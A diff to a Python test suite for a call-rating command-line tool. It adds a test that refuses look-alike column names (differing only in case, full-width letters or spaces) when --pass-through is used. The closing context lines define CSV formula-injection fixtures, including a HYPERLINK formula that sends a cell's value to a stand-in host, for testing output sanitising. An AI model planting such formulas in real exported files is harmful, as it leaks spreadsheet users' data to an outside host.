@@ -110,6 +110,37 @@ def test_the_bulk_api_refuses_too(demo, calls, tmp_path):
     assert not (tmp_path / "o.csv").exists()
 
 
+def appended(t: pa.Table, *columns: tuple[str, str]) -> pa.Table:
+    """``t`` with text columns (name, value) appended, a name possibly twice."""
+    return pa.Table.from_arrays([*t.columns, *(pa.array([v] * t.num_rows) for _, v in columns)],
+                                names=[*t.column_names, *(n for n, _ in columns)])
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".parquet"])
+@pytest.mark.parametrize("twins", [("call_id", "Call_ID"), ("start", " start"), ("end", "ｅｎｄ"),
+                                   ("note", "Note"), ("note", "ｎｏｔｅ"), ("note", "note\u00a0"), ("note", " note")])
+def test_pass_through_columns_alike_to_a_reader_are_refused(demo, calls, tmp_path, capsys, suffix, twins):
+    """Breaker N13 F7: ``Call_ID`` beside ``call_id`` (or ``note`` beside
+    ``Note``) was kept side by side; DuckDB read the second as ``Call_ID_1``,
+    so ``select Call_ID`` returned our call id. Refused as a column named
+    like ours is (the one fold, ``bulk._folded``): exit 2, the file, line 1
+    of a CSV, both names as written; without --pass-through it rates."""
+    first, second = twins
+    src = tmp_path / f"twins{suffix}"
+    t = appended(calls, *[(n, "x") for n in twins if n not in calls.column_names])
+    (pq.write_table if suffix == ".parquet" else pacsv.write_csv)(t, src)
+    out = tmp_path / "o.parquet"
+    code, _, err = cli(capsys, "rate", src, "--store", demo / "store", "--out", out, "--pass-through")
+    where = f"{src}: line 1: " if suffix == ".csv" else f"{src}: "
+    assert code == 2 and err.strip() == (
+        f"error: {where}with --pass-through, columns {first!r}, {second!r} differ only in case, full-width letters "
+        "or surrounding spaces: a spreadsheet or SQL takes them as one, so the rated output's columns would be "
+        "misread; rename them apart in the file or rate without --pass-through"), err
+    assert not out.exists()
+    code, _, err = cli(capsys, "rate", src, "--store", demo / "store", "--out", out)
+    assert code == 0 and pq.read_table(out).num_rows == calls.num_rows, err
+
+
 # --- 2. formulas in CSV output ---------------------------------------------------------------
 LINK = '=HYPERLINK("http://x.example/?"&A2,"details")'
 NOTES = [LINK, "-5", "@SUM(A1)", "'=x", "+1", "-12.50", "\tTAB", "plain"]
